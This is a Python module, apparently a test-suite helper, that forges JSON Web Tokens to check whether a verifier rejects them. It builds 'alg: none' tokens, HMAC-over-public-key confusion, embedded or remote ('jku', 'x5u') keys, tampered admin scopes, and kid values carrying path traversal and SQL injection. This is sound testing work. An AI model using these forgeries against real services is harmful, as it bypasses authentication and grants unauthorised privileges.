"""Read JWTs as a client does, and forge them as an attacker does, without a key of the server (RFC 7519, RFC 8725)."""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
import math
from typing import TYPE_CHECKING, cast

import jwt
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat
from jwt.algorithms import get_default_algorithms

if TYPE_CHECKING:
    from collections.abc import Iterable, Mapping

Members = dict[str, object]
_COUNTABLE = 10**18
"""Larger numbers are not instants, and the largest do not fit into a float."""
_A_YEAR = 366 * 86_400
_NO_JWT = (jwt.InvalidTokenError, ValueError, TypeError, RecursionError)


def claims_of(token: str) -> Members:
    """Return the claims, unverified; empty if the token is not a JWT."""
    try:
        claims = cast("Members", jwt.decode(token, options={"verify_signature": False}))
    except _NO_JWT:
        return {}
    huge = {name: math.inf for name, value in claims.items() if isinstance(value, int) and abs(value) > _COUNTABLE}
    return {**claims, **huge}


def header_of(token: str) -> Members:
    """Return the JOSE header, unverified; empty if the token is not a JWT."""
    try:
        return cast("Members", jwt.get_unverified_header(token))
    except _NO_JWT:
        return {}


def scopes_in(claims: Mapping[str, object]) -> frozenset[str] | None:
    """Return the scopes in the claims (`scope` of RFC 9068 section 2.2.3, or `scp`); None if there are none."""
    value = claims.get("scope", claims.get("scp"))
    if isinstance(value, str):
        return frozenset(value.split())
    if isinstance(value, list):
        return frozenset(str(entry) for entry in cast("list[object]", value))
    return None


def audiences_in(claims: Mapping[str, object]) -> frozenset[str]:
    """Return the recipients that `aud` names (RFC 7519 section 4.1.3)."""
    value = claims.get("aud")
    named = cast("list[object]", value) if isinstance(value, list) else [value]
    return frozenset(entry for entry in named if isinstance(entry, str))


def assembled(header: Mapping[str, object], claims: Mapping[str, object], signature: bytes = b"") -> str:
    """Assemble a JWT from these parts; the signature need not match them."""
    return f"{_signing_input(header, claims)}.{_encoded(signature)}"


def signed_with_secret(header: Mapping[str, object], claims: Mapping[str, object], secret: bytes) -> str:
    """Make a JWT with an HMAC under these bytes, which may be public, such as a public key (RFC 8725 section 2.1)."""
    header = {**header, "alg": "HS256"}
    signature = hmac.new(secret, _signing_input(header, claims).encode(), hashlib.sha256).digest()
    return assembled(header, claims, signature)


def with_claims(token: str, **changes: object) -> str:
    """Return the JWT with changed claims and its old signature."""
    return assembled(header_of(token), {**claims_of(token), **changes}, _signature_of(token))


def with_key_id(token: str, kid: str) -> str:
    """Return the JWT with another key id in its header and its old signature."""
    return assembled({**header_of(token), "kid": kid}, claims_of(token), _signature_of(token))


def with_bent_signature(token: str) -> str:
    """Return the JWT with one flipped bit in the middle of its signature; an opaque token gets another middle character.

    A change of the last character would not do: its spare bits may decode to the same signature.
    """
    if not header_of(token):
        middle = len(token) // 2
        return token[:middle] + ("A" if token[middle] != "A" else "B") + token[middle + 1 :]
    signature = bytearray(_signature_of(token))
    signature[len(signature) // 2] ^= 1
    return f"{token.rpartition('.')[0]}.{_encoded(bytes(signature))}"


def public_spellings(jwk: Mapping[str, object]) -> list[bytes]:
    """Return the forms of a public key that a confused verifier may use as an HMAC secret: PEM, JWK, modulus or point."""
    spellings = [json.dumps(jwk, separators=(",", ":")).encode(), json.dumps(jwk).encode()]
    raw = jwk.get("n", jwk.get("x"))
    if isinstance(raw, str):
        spellings += [raw.encode(), base64.urlsafe_b64decode(raw + "=" * (-len(raw) % 4))]
    try:
        key = jwt.PyJWK(dict(jwk)).key
        pem = key.public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo)
    except (jwt.PyJWTError, AttributeError, ValueError):
        return spellings
    return [pem, pem.strip(), *spellings]


def signed_by_stranger(header: Mapping[str, object], claims: Mapping[str, object]) -> str:
    """Make a JWT that is signed with the suite's own key, which its header contains as `jwk` (RFC 8725 section 3.10)."""
    from cryptography.hazmat.primitives.asymmetric import ec

    key = ec.generate_private_key(ec.SECP256R1())
    public = get_default_algorithms()["ES256"].to_jwk(key.public_key(), as_dict=True)
    return jwt.encode(dict(claims), key, algorithm="ES256", headers={**header, "alg": "ES256", "jwk": public})


def led_to_a_key(token: str, places: Mapping[str, str]) -> tuple[dict[str, str], Members]:
    """Make forgeries that name a URL for their key, by header member (`jku`, `x5u`), and the key set for that URL."""
    from cryptography.hazmat.primitives.asymmetric import ec

    header, claims = header_of(token), claims_of(token)
    key = ec.generate_private_key(ec.SECP256R1())
    public = get_default_algorithms()["ES256"].to_jwk(key.public_key(), as_dict=True)
    named = {"kid": header["kid"]} if "kid" in header else {}
    forged = {
        name: jwt.encode(dict(claims), key, algorithm="ES256", headers={**header, "alg": "ES256", name: url})
        for name, url in places.items()
    }
    return forged, {"keys": [{**public, **named, "use": "sig", "alg": "ES256"}]}


def unsigned(header: Mapping[str, object], claims: Mapping[str, object]) -> dict[str, str]:
    """Make forgeries without a signature, by a description of their fault (RFC 8725 section 2.1)."""
    algorithms = ("none", "None", "nOnE", str(header.get("alg", "RS256")))
    return {f"has alg {alg} and no signature": assembled({**header, "alg": alg}, claims) for alg in algorithms}


def tampered(token: str, *, now: float) -> dict[str, str]:
    """Make forgeries from parts of a valid token, by a description of their fault; only one for an opaque token."""
    forged = {"has another signature": with_bent_signature(token)}
    claims = claims_of(token)
    if claims:
        changes: Members = {
            "sub": "00000000-0000-4000-8000-000000000000",
            "exp": int(now) + _A_YEAR,
            "scope": "admin",
            "aud": [*audiences_in(claims), "https://elsewhere.client.example.com"],
        }
        forged |= {
            f"has another {name} than was signed": with_claims(token, **{name: changes[name]}) for name in changes
        }
    return forged


def with_senders_keys(token: str, key_set: Iterable[Members]) -> dict[str, str]:
    """Make forgeries with a key that the sender chose, by a description of their fault (RFC 8725 sections 2.1 and 3.10)."""
    header, claims = header_of(token), claims_of(token)
    forged = {
        f"is an HMAC under spelling {number} of the public key": signed_with_secret(
            {**header, "kid": jwk.get("kid")}, claims, secret
        )
        for jwk in key_set
        for number, secret in enumerate(public_spellings(jwk))
    }
    forged["contains its own key as jwk"] = signed_by_stranger(header, claims)
    for name in ("jku", "x5u"):
        elsewhere = {**header, name: "https://elsewhere.client.example.com/jwks.json"}
        forged[f"points to its key by {name}"] = signed_by_stranger(elsewhere, claims)
    for kid, secret in {"no-such-key": b"no-such-key", "../../dev/null": b"", "x' UNION SELECT 'key": b"key"}.items():
        forged[f"has the kid {kid}"] = signed_with_secret({**header, "kid": kid}, claims, secret)
    return forged


def _signing_input(header: Mapping[str, object], claims: Mapping[str, object]) -> str:
    return ".".join(_encoded(json.dumps(part, separators=(",", ":")).encode()) for part in (header, claims))


def _signature_of(token: str) -> bytes:
    encoded = token.rpartition(".")[2]
    return base64.urlsafe_b64decode(encoded + "=" * (-len(encoded) % 4))


def _encoded(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()
